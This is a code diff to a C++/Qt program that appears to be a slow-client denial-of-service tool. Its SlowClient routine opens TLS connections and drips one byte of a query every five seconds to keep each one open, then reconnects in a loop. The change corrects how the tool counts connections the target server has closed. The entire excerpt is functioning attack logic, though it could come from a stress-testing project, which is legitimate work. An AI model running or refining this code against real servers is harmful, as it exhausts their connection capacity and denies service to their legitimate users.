@@ -126,8 +126,9 @@ void Probe(Attack &attack, QObject *context) {
 void SlowClient(Attack &attack, QObject *context) {
     auto *socket = Connect(attack, context);
     auto *drip = new QTimer(socket);
-    QObject::connect(socket, &QSslSocket::encrypted, socket, [&attack, drip] {
+    QObject::connect(socket, &QSslSocket::encrypted, socket, [&attack, socket, drip] {
         ++attack.open;
+        socket->setProperty("counted", true);
         drip->start(5s);
     });
     QObject::connect(drip, &QTimer::timeout, socket, [&attack, socket] {
@@ -135,8 +136,14 @@ void SlowClient(Attack &attack, QObject *context) {
         socket->write(attack.query.sliced(sent % attack.query.size(), 1));
         socket->setProperty("sent", sent + 1);
     });
-    QObject::connect(socket, &QSslSocket::disconnected, socket,
-                     [&attack, socket] { attack.open -= socket->isEncrypted() ? 1 : 0; });
+    // Counted back once, and only if counted: a socket the server closed is no longer
+    // encrypted by the time it says so.
+    QObject::connect(socket, &QSslSocket::disconnected, socket, [&attack, socket] {
+        if (socket->property("counted").toBool()) {
+            socket->setProperty("counted", false);
+            --attack.open;
+        }
+    });
     Again(socket, context, 1s, [&attack, context] { SlowClient(attack, context); });
 }
 
